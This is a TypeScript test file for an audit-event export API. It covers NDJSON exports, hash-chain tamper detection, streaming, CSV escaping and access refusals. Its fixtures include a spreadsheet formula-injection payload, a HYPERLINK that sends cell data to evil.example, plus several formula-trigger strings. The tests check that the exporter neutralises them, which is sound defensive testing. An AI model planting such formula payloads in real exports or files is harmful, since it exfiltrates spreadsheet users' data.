import { beforeAll, describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/v1/exports/route";
import { GET as searchRoute, POST } from "@/app/api/v1/events/route";
import { pool } from "@/lib/db/pool";
import { CSV_COLUMNS } from "@/lib/events/export";
import { parseQuery } from "@/lib/events/query-language";
import type { AuditEvent } from "@/lib/events/types";
import { ChainVerifier } from "@/lib/integrity/chain";
import { call, exportLines, newOrg } from "@/tests/helpers/fixtures";

/**
 * GET /api/v1/exports: exactly the filtered events, in seq order, streamed; NDJSON that
 * re-verifies offline; CSV that a spreadsheet can open safely; and the export itself
 * recorded as DATA_EXPORTED.
 */

const NOW = Date.now();
const MIN = 60_000;

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click me")';

/** 24 events: every third is a CONTACT_* data event, with hostile and awkward text among them. */
function events(): Array<Record<string, unknown>> {
  return Array.from({ length: 24 }, (_, n) => {
    const base = { occurred_at: new Date(NOW - (24 - n) * MIN).toISOString(), metadata: { n } };
    switch (n % 3) {
      case 0:
        return {
          ...base,
          action: n % 2 ? "CONTACT_UPDATED" : "CONTACT_CREATED",
          actor: { type: "user", email: "agent@company.com", name: n === 3 ? HYPERLINK : "Agent Smith" },
          targets: [{ type: "contact", id: String(12345 + n), name: "John Silva" }],
          context: { ip: "203.0.113.45", user_agent: "Chrome 120 / Windows" },
          changes: [{ field: "plan", before: "Free", after: "Premium" }],
          reason: n === 6 ? "@SUM(1)" : n === 9 ? "moved, then\nrenamed \"again\"" : n === 12 ? "+1 call" : n === 15 ? "-2 credits" : undefined,
        };
      case 1:
        return { ...base, action: "LOGIN_SUCCESS", actor: { type: "user", email: "john@company.com" }, context: { ip: "2001:db8::45" } };
      default:
        return { ...base, action: "API_CALL", actor: { type: "api", id: "svc_1" }, metadata: { n, path: "/v1/contacts", note: "order:42" } };
    }
  });
}

let org: { key: string; orgId: string; ids: string[] };

beforeAll(async () => {
  const o = await newOrg();
  const res = await call(POST, { key: o.apiKey.key, body: { events: events() } });
  expect(res.status).toBe(201);
  org = { key: o.apiKey.key, orgId: o.org.id, ids: res.json.data.map((r: { id: string }) => r.id) };
});

async function exportText(qs: string, key = org.key) {
  return call(exportRoute, { key, path: `/api/v1/exports?${qs}` });
}

function ndjson(text: string): AuditEvent[] {
  expect(text.endsWith("\n")).toBe(true);
  return exportLines(text).events;
}

function verify(lines: AuditEvent[]): ChainVerifier {
  const v = new ChainVerifier();
  for (const e of lines) v.add(e);
  return v;
}

/** RFC 4180: quoted cells, doubled quotes, CRLF row ends, newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; i++; }
    else cell += c;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe("");
  return rows;
}

async function dbRows(where: string, params: unknown[] = []): Promise<Array<{ id: string; seq: number }>> {
  const { rows } = await pool().query<{ id: string; seq: number }>(
    `select id, seq from audit_events where org_id = $1 and ${where} order by seq`, [org.orgId, ...params]);
  return rows;
}

async function exportEvents(): Promise<AuditEvent[]> {
  const res = await call(searchRoute, { key: org.key, path: "/api/v1/events?action=DATA_EXPORTED&limit=200" });
  expect(res.status).toBe(200);
  return res.json.data;
}

describe("GET /api/v1/exports?format=ndjson", () => {
  it("exports exactly the filtered events, in seq order, and every line re-verifies", async () => {
    const res = await exportText("format=ndjson&action=CONTACT_*");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="vigil-events-.*\.ndjson"$/);
    const lines = ndjson(res.text);
    const want = await dbRows("action like 'CONTACT\\_%'");
    expect(want.length).toBe(8);
    expect(lines.map((e) => e.id)).toEqual(want.map((r) => r.id));
    expect(lines.map((e) => e.seq)).toEqual(want.map((r) => r.seq));
    const v = verify(lines);
    expect(v.problems).toEqual([]);
    expect(v.checked).toBe(8);
    expect(v.gaps).toBeGreaterThan(0); // a filtered export skips seqs; each line still proves itself
  });

  it("the default format is NDJSON, and filters compose like search", async () => {
    const res = await exportText("actor=john@company.com&ip=2001:db8::/32&q=-status:failed");
    expect(res.status).toBe(200);
    const lines = ndjson(res.text);
    expect(lines.map((e) => e.id)).toEqual((await dbRows("actor_email = 'john@company.com'")).map((r) => r.id));
  });

  it("a full export from seq 1 verifies with no gaps, and tampering is detected", async () => {
    const all = await dbRows("true"); // before: the export records one more event when it ends
    const res = await exportText("format=ndjson");
    const lines = ndjson(res.text);
    expect(lines.map((e) => e.seq)).toEqual(all.map((r) => r.seq));
    const v = verify(lines);
    expect(v.ok).toBe(true);
    expect(v.gaps).toBe(0);
    expect(v.firstSeq).toBe(1);
    expect(v.checked).toBe(all.length);

    // Change one field of one line.
    const edited = lines.map((e) => structuredClone(e));
    edited[4]!.actor = { ...edited[4]!.actor!, email: "someone-else@company.com" };
    const bad = verify(edited);
    expect(bad.ok).toBe(false);
    expect(bad.firstBadSeq).toBe(5);
    expect(bad.problems[0]).toMatchObject({ seq: 5, kind: "content_hash" });

    // Recomputing the edited line's hashes does not help: the next line no longer links.
    const rehashed = lines.map((e) => structuredClone(e));
    rehashed[4]!.metadata = { ...rehashed[4]!.metadata, n: 999 };
    const { contentHash, linkHash } = await import("@/lib/integrity/chain");
    rehashed[4]!.content_hash = contentHash(rehashed[4]!);
    rehashed[4]!.hash = linkHash(rehashed[4]!.prev_hash, rehashed[4]!.content_hash);
    const relinked = verify(rehashed);
    expect(relinked.problems).toEqual([expect.objectContaining({ seq: 6, kind: "link" })]);

    // A dropped line shows as a gap in a full export.
    const dropped = verify(lines.filter((_, i) => i !== 10));
    expect(dropped.gaps).toBe(1);
  });
});

describe("NDJSON lines are the API's events", () => {
  it("each line equals what GET /api/v1/events returns for it, awkward values included", async () => {
    const { apiKey } = await newOrg();
    const odd = [
      { action: "API_CALL" },
      { action: "CONTACT_UPDATED", actor: { type: "user", email: "Ana@Company.com" }, context: { ip: "2001:DB8::1", location: "São Paulo" },
        changes: [{ field: "plan", before: null, after: { tier: "Premium", seats: 1e21 } }],
        metadata: { n: 0.1, big: 1e21, tiny: 1e-7, neg: -0, text: "line\nbreak \"quoted\" ☃", nested: [1, [2, { a: null }]] } },
      { action: "LOGIN_FAILED", status: "failed", context: { ip: "::ffff:203.0.113.9" }, occurred_at: "2024-02-29T23:59:59.999Z" },
    ];
    const created = await call(POST, { key: apiKey.key, body: { events: odd } });
    expect(created.json.summary.created).toBe(3);
    const exported = await call(exportRoute, { key: apiKey.key, path: "/api/v1/exports?format=ndjson" });
    const lines = exportLines(exported.text).events;
    const page = await call(searchRoute, { key: apiKey.key, path: "/api/v1/events?limit=50" });
    for (const line of lines) {
      const fromApi = page.json.data.find((e: AuditEvent) => e.id === line.id);
      expect(line).toEqual(fromApi);
    }
    const verifier = new ChainVerifier();
    for (const line of lines) verifier.add(line);
    expect(verifier.ok).toBe(true);
  });
});

describe("GET /api/v1/exports?format=csv", () => {
  it("has the header, one row per event, formula cells neutralized and awkward cells quoted", async () => {
    const res = await exportText("format=csv&category=data");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.text.startsWith(CSV_COLUMNS.join(",") + "\r\n")).toBe(true);
    const rows = parseCsv(res.text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const body = rows.slice(1);
    const want = await dbRows("category = 'data'");
    expect(body.length).toBe(want.length);
    expect(body.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(body.map((r) => r[col("id")])).toEqual(want.map((r) => r.id));
    expect(body.map((r) => Number(r[col("seq")]))).toEqual(want.map((r) => r.seq));

    const byN = (n: number) => body.find((r) => JSON.parse(r[col("metadata")]!).n === n)!;
    // Cells a spreadsheet would run as a formula start with an apostrophe.
    expect(byN(3)[col("actor_name")]).toBe("'" + HYPERLINK);
    expect(byN(6)[col("reason")]).toBe("'@SUM(1)");
    expect(byN(12)[col("reason")]).toBe("'+1 call");
    expect(byN(15)[col("reason")]).toBe("'-2 credits");
    // Commas, quotes and newlines survive inside quotes.
    expect(byN(9)[col("reason")]).toBe('moved, then\nrenamed "again"');
    expect(res.text).toContain('"moved, then\nrenamed ""again"""');
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click me"")"`);
    // Structured columns are JSON; empty values are empty cells.
    expect(JSON.parse(byN(0)[col("changes")]!)).toEqual([{ field: "plan", before: "Free", after: "Premium" }]);
    expect(JSON.parse(byN(0)[col("targets")]!)).toEqual([{ type: "contact", id: "12345", name: "John Silva" }]);
    expect(byN(0)[col("reason")]).toBe("");
    expect(byN(0)[col("ip")]).toBe("203.0.113.45");
    // No raw formula start anywhere.
    for (const r of body) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("streams: nothing is read or recorded until the client pulls, then the header comes first", async () => {
    const before = (await exportEvents()).length;
    const res = await exportRoute(
      new Request("http://localhost/api/v1/exports?format=csv&action=LOGIN_SUCCESS", { headers: { authorization: `Bearer ${org.key}` } }),
      { params: Promise.resolve({}) },
    );
    expect(res.status).toBe(200);
    expect(res.body).toBeInstanceOf(ReadableStream);
    expect((await exportEvents()).length).toBe(before);
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    const first = await reader.read();
    expect(decoder.decode(first.value)).toBe(CSV_COLUMNS.join(",") + "\r\n");
    let rest = "";
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      rest += decoder.decode(value, { stream: true });
    }
    expect(parseCsv(rest).length).toBe(8);
    expect((await exportEvents()).length).toBe(before + 1);
  });
});

describe("the export is itself an audit event", () => {
  it("records DATA_EXPORTED with the row count, the filter and the reason", async () => {
    const res = await exportText(`format=csv&category=integration&q=${encodeURIComponent('"order:42" -status:failed')}&reason=${encodeURIComponent("Quarterly audit, @SUM(1)")}`);
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text).length - 1;
    expect(rows).toBe(8);
    const recorded = (await exportEvents())[0]!;
    expect(recorded).toMatchObject({
      action: "DATA_EXPORTED",
      category: "export",
      status: "success",
      source: "api",
      reason: "Quarterly audit, @SUM(1)",
      actor: { type: "api" },
      metadata: { records: 8, format: "csv", fields: [...CSV_COLUMNS] },
    });
    // The recorded filter is query-language text that reads back as the same filter.
    const filter = recorded.metadata.filter as string;
    expect(filter).toBe('category:integration "order:42" -status:failed');
    expect(parseQuery(filter)).toEqual(parseQuery('category:integration "order:42" -status:failed'));
    // The record is chained like any event.
    const v = await dbRows("id = $2", [recorded.id]);
    expect(v[0]!.seq).toBe(recorded.seq);
  });

  it("an empty export is recorded with records: 0", async () => {
    const res = await exportText("format=ndjson&actor=nobody@company.com");
    expect(res.status).toBe(200);
    // No event: only the proof line, which proves there are none to show.
    expect(exportLines(res.text)).toMatchObject({ events: [], proof: { statement: { count: 0, from_seq: null } } });
    const recorded = (await exportEvents())[0]!;
    expect(recorded.metadata).toMatchObject({ records: 0, filter: "actor:nobody@company.com", format: "ndjson" });
  });
});

describe("GET /api/v1/exports refuses", () => {
  it("a key without events:read (403), no key (401), and bad parameters (400)", async () => {
    const writeOnly = await newOrg(["events:write"]);
    const res = await exportText("format=csv", writeOnly.apiKey.key);
    expect(res.status).toBe(403);
    expect(res.json.error.message).toMatch(/events:read/);
    expect((await call(exportRoute, { path: "/api/v1/exports" })).status).toBe(401);
    const badFormat = await exportText("format=xml");
    expect(badFormat.status).toBe(400);
    expect(badFormat.json.error.details[0].path).toBe("format");
    const badIp = await exportText("ip=203.0.113.0/33");
    expect(badIp.status).toBe(400);
    expect(badIp.json.error.details[0].path).toBe("ip");
    expect((await exportText("limit=5")).status).toBe(400);
    // A reason the trail can't hold is refused before any byte goes out, and nothing is recorded.
    const before = (await exportEvents()).length;
    const nul = await exportText("reason=ok%00then");
    expect(nul.status).toBe(400);
    expect(nul.json.error.details[0]).toMatchObject({ path: "reason", message: "must not contain NUL characters" });
    expect((await exportEvents()).length).toBe(before);
  });

  it("another org's events: an export holds only the caller's", async () => {
    const other = await newOrg();
    const res = await exportText("format=ndjson", other.apiKey.key);
    expect(res.status).toBe(200);
    expect(exportLines(res.text)).toMatchObject({ events: [], proof: { statement: { org_id: other.org.id, count: 0 } } });
  });
});
